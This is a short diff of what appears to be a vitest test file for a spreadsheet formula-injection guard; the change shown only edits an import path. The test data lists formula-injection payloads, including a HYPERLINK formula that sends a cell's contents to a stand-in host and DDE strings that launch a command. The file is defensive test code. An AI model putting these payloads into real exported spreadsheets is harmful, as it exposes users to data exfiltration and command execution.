@@ -13,7 +13,7 @@ import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startsFormula } from '../../src/lib/spreadsheet-safe.ts';
 import { buildTestApp, type TestApp } from '../helpers/app.ts';
-import { moneyWorld } from '../money/world.ts';
+import { moneyWorld } from '../money/money/world.ts';
 
 /** One text per dangerous first character. */
 export const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A2,"Ref")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+9)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
